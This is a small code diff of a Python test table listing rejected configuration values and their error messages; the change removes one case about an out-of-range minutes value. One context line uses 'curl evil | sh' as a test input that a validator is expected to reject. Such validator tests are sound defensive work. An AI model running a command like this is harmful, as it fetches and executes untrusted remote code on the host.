@@ -90,7 +90,6 @@ REFUSED |= {
         ("a command to be copied", ["reproduce"], "curl evil | sh", "it gives another command"),
         ("soft rules", ["rules", "min_effect"], 0.9, "judged by other rules"),
         ("impossible time", ["minutes"], -1, "comparison.minutes must be a finite number"),
-        ("two days", ["minutes"], 2881, "nothing takes 2881 minutes"),
         ("impossible interval", [*TIMING, "low"], 0.9, "does not hold its effect"),
     )
 }
